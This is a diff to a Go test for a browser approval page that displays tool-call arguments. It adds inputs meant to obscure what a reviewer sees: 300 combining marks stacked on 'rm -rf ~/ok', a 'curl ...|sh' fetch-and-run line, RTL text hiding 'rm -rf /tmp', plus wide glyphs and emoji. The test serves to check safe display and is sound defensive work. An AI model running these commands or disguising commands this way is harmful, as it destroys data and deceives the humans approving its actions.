@@ -45,6 +45,19 @@ func unmark(s string) string {
 	})
 }
 
+// zalgo is n combining marks, no two alike in a row: a stack drawn far
+// above and below its line.
+func zalgo(n int) string {
+	marks := []rune{0x0300, 0x0301, 0x0302, 0x0303, 0x0304, 0x0305, 0x0306, 0x0307, 0x0308, 0x030A, 0x030B, 0x030C,
+		0x0316, 0x0317, 0x0318, 0x0319, 0x031C, 0x0323, 0x0324, 0x0325, 0x0326, 0x0329, 0x032A, 0x0330, 0x0331, 0x0332,
+		0x0333, 0x0338, 0x0339, 0x033A, 0x0346, 0x034A, 0x0360, 0x0361, 0x0489, 0x20DD, 0x20DE, 0x20E0, 0x0E49, 0x0F39}
+	var b strings.Builder
+	for i := 0; i < n; i++ {
+		b.WriteRune(marks[i%len(marks)])
+	}
+	return b.String()
+}
+
 // TestBrowserHostile holds calls whose arguments attack the person who
 // reads them (bidi overrides and isolates, invisible and tag characters,
 // a tail pushed away by 400 spaces and 120 newlines, a value longer than
@@ -65,6 +78,14 @@ func TestBrowserHostile(t *testing.T) {
 		// Controls inside the JSON string: each a named marker, as in
 		// any other text, never an escape (\n, \u001b) to decode, and
 		// a backslash and an n (\\n in JSON) told apart from a newline.
+		// Content that would paint over or push away the controls or
+		// other steps: wide glyphs, a stack of 300 combining marks on one
+		// letter, emoji joined by ZWJ, a long unbroken token, RTL text.
+		"wide":  strings.Repeat("\ufdfdx\U00012219y\ua9c1z\u0bf5\u2e3b", 30) + strings.Repeat("\u0bf5", 300) + " " + strings.Repeat("\u2e3b", 300) + strings.Repeat("\U00012219", 200),
+		"zalgo": "rm -rf ~/ok" + zalgo(300) + " ; e" + zalgo(40) + "cho done" + zalgo(3),
+		"emoji": strings.Repeat("\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 \U0001F3F3\ufe0f\u200d\U0001F308\U0001F469\U0001F3FD\u200d\U0001F4BB\U0001F1FA\U0001F1F8\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", 12),
+		"token": "curl https://example.com/" + strings.Repeat("A9_", 2000) + "/x.sh|sh",
+		"rtl":   "echo \u05e9\u05dc\u05d5\u05dd \u0639\u0631\u0628\u064a 123 ; rm -rf /tmp/\u05d0\u05d1 # \u0627\u0644\u0633\u0644\u0627\u0645 " + strings.Repeat("\u05d0\u0628", 200),
 		"ctl": "echo ok\x00\x1b[2J\r\t\x7f\u0085\u2028 \\n done\n\n\nrm -rf ~ \b\f\x01",
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
@@ -98,6 +119,8 @@ func TestBrowserHostile(t *testing.T) {
 		TailVisible, HugeTailOnList  bool
 		HugeApprove, HugeStepApprove int
 		HugeTailOnStep               bool
+		DrawnMarks                   int
+		Paint                        []string
 	}
 	if err := json.Unmarshal(outb, &out); err != nil {
 		t.Fatalf("browser script output %q: %v", outb, err)
@@ -116,6 +139,12 @@ func TestBrowserHostile(t *testing.T) {
 	}
 	if out.HugeStepApprove != 1 || !out.HugeTailOnStep {
 		t.Errorf("the long value's page: %d approve buttons, tail shown %v", out.HugeStepApprove, out.HugeTailOnStep)
+	}
+	if out.DrawnMarks > 0 {
+		t.Errorf("%d combining marks drawn on the page (each must be named)", out.DrawnMarks)
+	}
+	for _, p := range out.Paint {
+		t.Errorf("paint: %s", p)
 	}
 	for _, f := range out.Flashes {
 		if !strings.Contains(f, "Your decision decided") {
